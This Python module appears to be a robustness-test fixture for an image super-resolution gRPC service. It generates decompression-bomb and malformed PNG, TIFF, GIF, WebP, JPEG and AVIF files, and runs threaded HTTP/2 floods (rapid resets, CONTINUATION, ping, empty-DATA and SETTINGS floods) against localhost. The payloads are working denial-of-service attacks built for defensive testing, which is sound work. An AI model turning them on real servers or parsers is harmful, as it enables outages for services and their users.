"""What hostile clients send: files that cost more than they weigh, and HTTP/2 that asks for nothing."""

import io
import random
import socket
import ssl
import struct
import threading
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"


# Files.

def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width, height, rows=0, extra=()):
    """A PNG that declares its size and has `rows` grey rows; extra: chunks before the pixels."""
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(bytes(1 + width)) for _ in range(rows)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        chunk(kind, data) for kind, data in ((b"IHDR", header), *extra, (b"IDAT", body), (b"IEND", b"")))


def png_of_texts(count=900, size=8 << 20):
    """Compressed texts, megabytes each of kilobytes."""
    packed = zlib.compress(bytes(size), 9)
    return png_of(8, 8, 8, [(b"zTXt", b"a%d\0\0" % i + packed) for i in range(count)])


def png_of_xmp(count=20000):
    """XMP of which every element must not be searched for through all the others."""
    xmp = (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
           b"<rdf:Description " * count + b"</rdf:RDF></x:xmpmeta>")
    text = b"XML:com.adobe.xmp\0\1\0\0\0" + zlib.compress(xmp, 9)
    return png_of(8, 8, 8, [(b"iTXt", text)])


def tiff(tags, data=b"", first=8):
    """A little-endian TIFF of one directory; tags: (tag, type, count, value)."""
    directory = struct.pack("<H", len(tags)) + b"".join(
        struct.pack("<HHII", *tag) for tag in sorted(tags)) + bytes(4)
    return b"II*\0" + struct.pack("<I", first) + directory + data


def tiff_of_overlaps(entries=2000, size=1 << 20):
    """EXIF whose entries all are the same megabyte."""
    pixels = 8 + 2 + 12 * 10 + 4
    exif = pixels + 64
    begin = exif + 2 + 12 * entries + 4
    tags = [(256, 3, 1, 8), (257, 3, 1, 8), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, pixels),
            (277, 3, 1, 1), (278, 3, 1, 8), (279, 4, 1, 64), (34665, 4, 1, exif)]
    inner = struct.pack("<H", entries) + b"".join(
        struct.pack("<HHII", 0x9000 + i % 0x600, 7, size, begin) for i in range(entries)) + bytes(4)
    return tiff(tags, bytes(64) + inner + bytes(size))


def tiff_of_one_tile(side=16000):
    """A tile that is much larger than its picture."""
    packed = zlib.compress(bytes(side * side), 9)
    tags = [(256, 3, 1, 96), (257, 3, 1, 96), (258, 3, 1, 8), (259, 3, 1, 8), (262, 3, 1, 1), (277, 3, 1, 1),
            (322, 3, 1, side), (323, 3, 1, side), (324, 4, 1, 8 + 2 + 12 * 10 + 4), (325, 4, 1, len(packed))]
    return tiff(tags, packed)


def tiff_of_pages(count=50000):
    """Directories without an end."""
    out = b"II*\0" + struct.pack("<I", 8)
    for i in range(count):
        out += struct.pack("<H", 1) + struct.pack("<HHII", 256, 3, 1, 1) + struct.pack("<I", 8 + 18 * (i + 1))
    return out


def gif_of(side, frames):
    """A frame of one pixel each, on a canvas of side x side."""
    image = b",\0\0\0\0\1\0\1\0\0\2\2D\1\0"
    return (b"GIF89a" + struct.pack("<HH", side, side) + b"\x80\0\0" + bytes(6) + image * frames + b";")


def webp_of(side, frames):
    """The same as WebP."""
    from PIL import Image
    still = io.BytesIO()
    Image.new("RGB", (2, 2)).save(still, "WEBP", lossless=True)
    bits = still.getvalue()[12:]

    def part(kind, data):
        return kind + struct.pack("<I", len(data)) + data + bytes(len(data) % 2)
    canvas = struct.pack("<I", side - 1)[:3]
    frame = part(b"ANMF", bytes(6) + b"\1\0\0\1\0\0" + b"\x0a\0\0\0" + bits)
    body = (b"WEBP" + part(b"VP8X", b"\2\0\0\0" + canvas * 2) + part(b"ANIM", bytes(6)) + frame * frames)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg_of_scans(scans=100, side=7000):
    """A progressive JPEG that says the same coefficient over and over."""
    def marker(code, data):
        return bytes((0xFF, code)) + struct.pack(">H", len(data) + 2) + data
    table = marker(0xC4, b"\0" + b"\1" + bytes(15) + b"\0") + marker(0xC4, b"\x10" + b"\1" + bytes(15) + b"\0")
    out = b"\xff\xd8" + marker(0xDB, b"\0" + b"\1" * 64)
    out += marker(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0") + table
    blocks = bytes((-(-side // 8)) ** 2 // 8 + 1)
    out += marker(0xDA, b"\1\1\0\0\0\1") + blocks
    for i in range(scans):
        out += marker(0xDA, b"\1\1\0" + bytes((1 + i % 63, 1 + i % 63, 0))) + b"\0" * 64
    return out + b"\xff\xd9"


def avif_of_itself():
    """A grid whose only tile is the grid."""
    def box(kind, *parts):
        body = b"".join(parts)
        return struct.pack(">I", 8 + len(body)) + kind + body
    full = bytes(4)
    grid = b"\0\0\0\0" + struct.pack(">HH", 64, 64)
    meta = box(
        b"meta", full, box(b"hdlr", full, bytes(4), b"pict", bytes(13)), box(b"pitm", full, b"\0\1"),
        box(b"iinf", full, b"\0\1", box(b"infe", b"\2\0\0\0", b"\0\1\0\0grid\0")),
        box(b"iref", full, box(b"dimg", struct.pack(">HHH", 1, 1, 1))),
        box(b"iprp", box(b"ipco", box(b"ispe", full, struct.pack(">II", 64, 64))),
            box(b"ipma", full, struct.pack(">IHBB", 1, 1, 1, 1))),
        box(b"iloc", b"\1\0\0\0", b"\x44\0", b"\0\1", struct.pack(">HHHHII", 1, 1, 0, 1, 0, len(grid))),
        box(b"idat", grid))
    return box(b"ftyp", b"avif", bytes(4), b"avifmif1") + meta


def files():
    """name -> (bytes, frame that is asked for): what must be refused, or cost little."""
    return {
        "png, 16,000 x 16,000 declared": (png_of(16000, 16000), 0),
        "png, 900 texts of 8 MB": (png_of_texts(), 0),
        "png, xmp of 20,000 beginnings": (png_of_xmp(), 0),
        "tiff, 2,000 times the same megabyte": (tiff_of_overlaps(), 0),
        "tiff, a tile of 16,000 x 16,000": (tiff_of_one_tile(), 0),
        "tiff, 50,000 pages": (tiff_of_pages(), 0),
        "gif, frame 300 of 7,000 x 7,000": (gif_of(7000, 300), 300),
        "webp, frame 300 of 7,000 x 7,000": (webp_of(7000, 300), 300),
        "jpeg, 100 scans of 7,000 x 7,000": (jpeg_of_scans(), 0),
        "avif, a grid of itself": (avif_of_itself(), 0),
        "ppm, 40 bytes of 7,000 x 7,000": (b"P3 7000 7000 255\n1 2 3\n", 0),
        "noise": (random.Random(1).randbytes(1 << 20), 0),
    }


# HTTP/2.

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def header_block(path):
    """Headers of a gRPC call, written out."""
    out = b"\x83\x86"  # :method POST, :scheme http
    for name, value in ((b":path", path), (b":authority", b"x"), (b"content-type", b"application/grpc"),
                        (b"te", b"trailers")):
        out += b"\0" + bytes((len(name),)) + name + bytes((len(value),)) + value
    return out


class Flood:
    """Connections that send what `payload` makes, again and again, in threads of their own; what is answered is
    thrown away. payload(n): bytes for the nth time; None: a new connection is due. wrap: makes TLS of a socket."""

    def __init__(self, port, payload, connections=4, wrap=lambda connection: connection):
        self.port, self.payload, self.wrap = port, payload, wrap
        self.over = threading.Event()
        self.sent = self.closed = 0
        self.threads = [threading.Thread(daemon=True, target=self.run) for _ in range(connections)]
        for thread in self.threads:
            thread.start()

    def run(self):
        while not self.over.is_set():
            try:
                with self.wrap(socket.create_connection(("127.0.0.1", self.port), 5)) as connection:
                    connection.sendall(PREFACE + frame(4, 1, 0))
                    n = 0
                    while not self.over.is_set() and (data := self.payload(n)) is not None:
                        connection.sendall(data)
                        self.sent += len(data)
                        n += 1
                        connection.setblocking(False)
                        try:
                            while connection.recv(1 << 16):
                                pass
                        except (BlockingIOError, ssl.SSLWantReadError):
                            pass
                        connection.settimeout(5)
            except OSError:
                self.closed += 1
                time.sleep(0.01)

    def stop(self):
        self.over.set()
        for thread in self.threads:
            thread.join(20)


def resets(path=b"/hiif.v1.SuperResolutionService/Upscale"):
    """Streams that are given up at once."""
    block = header_block(path)

    def payload(n):
        return b"".join(frame(1, 4, 2 * (50 * n + i) + 1, block) +
                        frame(3, 0, 2 * (50 * n + i) + 1, struct.pack(">I", 8)) for i in range(50))
    return payload


def pings(per_connection=20000):
    def payload(n):
        return frame(6, 0, 0, bytes(8)) * 100 if n * 100 < per_connection else None
    return payload


def endless_headers(path=b"/hiif.v1.SuperResolutionService/Upscale"):
    """Headers that go on in CONTINUATION frames."""
    first = frame(1, 0, 1, header_block(path))
    more = frame(9, 0, 1, (b"\0\5x-aaa\x7f\x81\1" + b"b" * 256) * 50)
    return lambda n: first if n == 0 else more


def empty_data(path=b"/hiif.v1.SuperResolutionService/UpscaleUpload"):
    """DATA frames without data."""
    first = frame(1, 4, 1, header_block(path))
    return lambda n: first if n == 0 else frame(0, 0, 1) * 500


def settings():
    return lambda n: frame(4, 0, 0, struct.pack(">HI", 4, 65535)) * 200


FLOODS = {
    "rapid resets": resets,
    "rapid resets of an upload": lambda: resets(b"/hiif.v1.SuperResolutionService/UpscaleUpload"),
    "rapid resets of nothing": lambda: resets(b"/x/y"),
    "pings, new connections": pings,
    "pings, one connection": lambda: pings(10**12),
    "endless headers": endless_headers,
    "empty data": empty_data,
    "settings": settings,
}
